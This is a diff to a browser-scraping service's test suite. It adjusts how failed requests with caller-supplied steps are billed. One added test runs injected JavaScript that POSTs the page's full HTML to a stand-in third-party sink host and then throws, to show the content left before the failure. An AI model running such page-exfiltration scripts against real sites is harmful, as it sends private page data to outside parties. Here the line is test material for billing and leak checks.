@@ -60,6 +60,8 @@ describe.skipIf(!chromium)('browser-grade scrape options (real Chromium)', () =>
   /** Request headers seen by the fixture, per `host path`. */
   const seen: { host: string; path: string; headers: IncomingHttpHeaders }[] = [];
   const seenAt = (host: string, path: string) => seen.filter((s) => s.host.startsWith(host) && s.path === path);
+  /** Bodies posted to third.test/sink by a page's script. */
+  const sunk: string[] = [];
 
   beforeAll(async () => {
     intranet = createNetServer((s) => {
@@ -82,6 +84,14 @@ describe.skipIf(!chromium)('browser-grade scrape options (real Chromium)', () =>
       '/probe': record(PROBE_PAGE),
       '/pixel.png': record(PIXEL, 'image/png'),
       '/api': record('{}', 'application/json'),
+      '/sink': (req, res) => {
+        let body = '';
+        req.on('data', (d) => (body += d));
+        req.on('end', () => {
+          sunk.push(body);
+          res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+        });
+      },
       '/article': record(
         '<html><head><title>Article</title></head><body><article><h1>Article</h1><p>Plain words of a plain article, long enough to be its content.</p></article></body></html>',
       ),
@@ -167,7 +177,7 @@ describe.skipIf(!chromium)('browser-grade scrape options (real Chromium)', () =>
     expect(await svc.credits(accountId)).toBe(9);
   }, 60_000);
 
-  it('a step that cannot be done is 422 action_failed naming it, and costs nothing', async () => {
+  it("a step that cannot be done is 422 action_failed naming it, charged: the caller's steps ran", async () => {
     const { key, accountId } = await svc.newKey(5);
     const missing = await scrape(key, {
       url: 'http://www.shop.test/actions',
@@ -200,7 +210,35 @@ describe.skipIf(!chromium)('browser-grade scrape options (real Chromium)', () =>
       error: 'action_failed',
       detail: expect.stringContaining("unknown key 'NoSuchKey'"),
     });
-    expect(await svc.credits(accountId)).toBe(5);
+    // Each ran the caller's steps in our browser: charged though it failed (a step may have sent
+    // the page anywhere before it threw, as the next test shows).
+    expect(await svc.credits(accountId)).toBe(1);
+  }, 60_000);
+
+  it('a script that sends the page away and then throws is charged: the content left through it', async () => {
+    const { key, accountId } = await svc.newKey(5);
+    const before = sunk.length;
+    const r = await scrape(key, {
+      url: 'http://www.shop.test/actions',
+      actions: [
+        {
+          type: 'execute_javascript',
+          script:
+            'await fetch("http://third.test/sink", { method: "POST", body: document.documentElement.outerHTML }); throw new Error("gone")',
+        },
+      ],
+    });
+    expect(r).toMatchObject({ status: 422, body: { error: 'action_failed' } });
+    expect(sunk.slice(before).join('')).toContain('The hidden paragraph that a click reveals.');
+    expect(await svc.credits(accountId)).toBe(4);
+    // A failure before any step ran (the page could not be loaded) stays free.
+    const gone = await scrape(key, {
+      url: 'http://www.shop.test/nowhere-404',
+      render: 'browser',
+      actions: [{ type: 'wait', milliseconds: 10 }],
+    });
+    expect(gone.status).not.toBe(200);
+    expect(await svc.credits(accountId)).toBe(4);
   }, 60_000);
 
   it('screenshots: the viewport (default and given), the whole page, capped at 16,384 px, PNG or JPEG, served by an unguessable URL', async () => {
@@ -391,8 +429,8 @@ describe.skipIf(!chromium)('browser-grade scrape options (real Chromium)', () =>
     expect([403, 422]).toContain(navigated.status);
     expect(JSON.stringify(navigated.body)).not.toContain(SECRET);
     expect(intranetConnections - before).toBe(0);
-    // Only the request that succeeded was charged.
-    expect(await svc.credits(accountId)).toBe(4);
+    // Each ran the caller's steps in our browser, so each was charged, refused or not.
+    expect(await svc.credits(accountId)).toBe(2);
   }, 60_000);
 
   it('refuses bad options with 400 naming the field, before any work', async () => {
